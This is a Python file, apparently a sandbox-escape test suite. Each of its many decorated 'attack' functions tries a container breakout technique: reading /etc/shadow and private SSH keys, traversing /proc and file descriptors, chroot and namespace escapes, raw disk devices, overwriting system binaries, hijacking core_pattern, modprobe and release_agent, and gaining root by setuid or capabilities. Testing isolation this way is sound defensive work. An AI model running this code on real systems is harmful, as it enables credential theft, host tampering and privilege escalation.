"""To the host's files."""

HERE = os.getcwd()
SECRET = FACTS["secret_file"]


@attack("read a file of the host by its path")
def _():
    return read(SECRET)


@attack("list the state directory")
def _():
    return os.listdir(FACTS["state_dir"])


@attack("read users' passwords and keys")
def _():
    return every([lambda p=p: read(p) for p in ("/etc/shadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", *[os.path.join("/root", n) for n in (".bashrc", ".ssh/id_rsa")])])


@attack("reach the host's root through /proc")
def _():
    pids = ["self", "1", str(GUARD), "thread-self", *map(str, FACTS["pids"])]
    return every([lambda p=p, n=n: read(f"/proc/{p}/{n}{SECRET}") for p in pids for n in ("root", "cwd/../../../../../..")])


@attack("open a file of the host through a descriptor of somebody else")
def _():
    def through(pid):
        return every([lambda n=n: read(f"/proc/{pid}/fd/{n}{SECRET}") for n in range(64)])

    return every([lambda p=p: through(p) for p in ["self", "1", GUARD, *FACTS["pids"]]])


@attack("climb out of the workspace by ..")
def _():
    directory = os.open(HERE, os.O_RDONLY)
    for _ in range(12):
        up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=directory)
        os.close(directory)
        directory = up
        try:
            return os.read(os.open(SECRET.lstrip("/"), os.O_RDONLY, dir_fd=directory), 64)
        except OSError as error:
            last = error
    raise last


@attack("leave by chroot")
def _():
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    for _ in range(12):
        os.chdir("..")
    return read(SECRET.lstrip("/"))


@attack("make namespaces")
def _():
    flags = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "time": 0x80}

    def unshare(name, flag):
        if LIBC.unshare(flag):
            raise OSError(ctypes.get_errno(), "unshare")
        return name

    return every([lambda n=n, f=f: unshare(n, f) for n, f in flags.items()])


@attack("enter namespaces of others")
def _():
    def enter(pid, name):
        descriptor = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        if LIBC.setns(descriptor, 0):
            raise OSError(ctypes.get_errno(), "setns")
        return f"{pid} {name}"

    return every([lambda p=p, n=n: enter(p, n) for p in [1, GUARD, *FACTS["pids"]] for n in ("mnt", "user", "pid", "net")])


@attack("mount")
def _():
    def mount(kind, target):
        if LIBC.mount(b"none", target, kind, 0, None):
            raise OSError(ctypes.get_errno(), "mount")
        return kind

    return every([lambda k=k: mount(k, os.fsencode(HERE)) for k in (b"tmpfs", b"proc", b"sysfs", b"cgroup", b"cgroup2", b"overlay")])


@attack("make the device of a disk and read it")
def _():
    def make(number):
        os.mknod(f"disk{number}", 0o60666, os.makedev(*number))
        return read(f"disk{number}")

    return every([lambda n=n: make(n) for n in ((8, 0), (254, 0), (259, 0), (7, 0), (1, 1))])


@attack("open files by handle, past all directories")
def _():
    handle = (ctypes.c_char * 16)(*(8).to_bytes(4, "little"), *(1).to_bytes(4, "little"), *(2).to_bytes(8, "little"))
    number = 304 if os.uname().machine == "x86_64" else 265
    directory = os.open(HERE, os.O_RDONLY)
    return syscall(number, directory, ctypes.byref(handle), 0)


@attack("write the host's programs and configuration")
def _():
    places = ["/usr/bin/env", sys.executable, os.path.realpath("/proc/self/exe"), json.__file__, "/etc/passwd", "/etc/ld.so.cache", "/bin/sh"]
    planted = [lambda d=d: os.open(d + "/planted", os.O_CREAT | os.O_WRONLY) for d in ("/", "/usr/bin", "/etc", "/lib", "/dev", os.path.dirname(json.__file__), "/etc/cron.d")]
    return every([lambda p=p: write(p) for p in places] + planted)


@attack("write the running interpreter through /proc/self/exe")
def _():
    def overwrite():
        descriptor = os.open("/proc/self/exe", os.O_PATH)
        return write(f"/proc/self/fd/{descriptor}")

    return every([overwrite, lambda: write("/proc/self/exe"), lambda: write(f"/proc/{GUARD}/exe"), lambda: write("/proc/1/exe")])


@attack("link or rename a file of the host into the workspace")
def _():
    linked = [lambda s=s: os.link(s, f"linked{i}") or f"linked {s}" for i, s in enumerate((SECRET, "/etc/passwd", "/usr/bin/env"))]
    return every([*linked, lambda: os.rename(SECRET, "moved") or "moved", lambda: os.rename(HERE, HERE + "2") or "moved the workspace"])


@attack("remove or change the workspace's own directory")
def _():
    parent = os.path.dirname(HERE)
    return every([lambda: os.mkdir(parent + "/neighbour") or "made", lambda: os.rmdir(HERE) or "removed", lambda: parent != "/" and os.listdir(parent)])


@attack("set what the host runs for it: core_pattern, modprobe, binfmt, release_agent, uevent_helper")
def _():
    kernel = "/proc/sys/kernel/"
    places = [kernel + "core_pattern", kernel + "modprobe", kernel + "hotplug", kernel + "poweroff_cmd", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper"]
    groups = [f"/sys/fs/cgroup{p}/release_agent" for p in ("", "/memory", "/pids", "/cpu", "/freezer", "/systemd")]
    return every([lambda p=p: write(p, b"|/tmp/x\n") for p in places + groups])


@attack("leave the control group")
def _():
    def leave(path):
        return os.path.isdir(path) and write(path + "/cgroup.procs", b"0")

    return every([lambda p=p: leave("/sys/fs/cgroup" + p) for p in ("", "/memory", "/pids", "/cpu", "/unified")])


@attack("get another user by set-user-id programs")
def _():
    import shutil
    import subprocess

    def run(program):
        said = subprocess.run(program, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5).stdout.strip()
        return said not in (str(os.getuid()), "") and said

    def copied():
        shutil.copy("/usr/bin/id", "id")
        os.chmod("id", 0o6755)
        return run(["./id", "-u"])

    known = [["/usr/bin/su", "-c", "id -u"], ["/usr/bin/sudo", "-n", "id", "-u"], ["/usr/bin/newgrp"], ["/usr/bin/pkexec", "id", "-u"]]
    return every([copied, *[lambda c=c: run(c) for c in known if os.path.exists(c[0])]])


@attack("take capabilities and user ids")
def _():
    changes = [lambda: os.setuid(0) or "root", lambda: os.setgid(0) or "group root", lambda: os.setgroups([0]) or "groups", lambda: os.setresuid(0, 0, 0) or "root"]

    def raised(number):
        # PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE
        return LIBC.prctl(47, 2, number, 0, 0) == 0 and f"capability {number}"

    return every([*changes, *[lambda n=n: raised(n) for n in range(41)]])


@attack("change modes, owners or times of files outside the workspace", unless="reduced")
def _():
    places = [FACTS["state_dir"], FACTS["outside_dir"], SECRET, "/usr/bin/env", "/etc/passwd"]
    changed = [lambda p=p: os.chmod(p, 0o777) or f"mode of {p}" for p in places]
    changed += [lambda p=p: os.utime(p) or f"times of {p}" for p in places]
    changed += [lambda p=p: os.chown(p, os.getuid(), os.getgid()) or f"owner of {p}" for p in places]
    return every(changed)


main()
